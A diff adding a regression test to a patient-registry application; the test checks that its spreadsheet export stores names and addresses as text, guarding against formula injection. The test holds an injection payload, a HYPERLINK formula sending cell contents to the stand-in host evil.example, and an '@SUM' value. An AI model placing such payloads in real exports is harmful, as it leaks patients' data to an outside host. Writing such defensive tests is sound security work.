@@ -5,6 +5,9 @@ audited for review (SQLite and PostgreSQL)."""
 
 from __future__ import annotations
 
+import io
+
+import openpyxl
 import sqlalchemy as sa
 
 from shidian.platform.db.registry_schema import registry_patients, registry_transfers
@@ -92,3 +95,16 @@ def test_the_import_answers_a_duplicate_outside_the_area_as_a_new_patient(reg_cl
             .where(registry_transfers.c.id_hmac == held_row_hmac(conn, held_no))
         ).scalar_one()
     assert transfers == 1
+
+
+def test_a_formula_typed_as_a_name_or_address_is_text_in_the_registry_export(reg_client):
+    """Issue 22 finding 5: the export writes names and addresses as text cells, never formulas."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    doc = reg_client("reg_doc_a")
+    response, _ = register(doc, name=formula, address="@SUM(1+1)")
+    assert response.status_code == 201, response.text
+    export = reg_client("reg_office").get("/registry/export.xlsx")
+    assert export.status_code == 200
+    cells = [c for row in openpyxl.load_workbook(io.BytesIO(export.content)).active.iter_rows() for c in row]
+    assert formula in [c.value for c in cells]
+    assert {c.data_type for c in cells if isinstance(c.value, str) and c.value[:1] in "=@+-"} == {"s"}
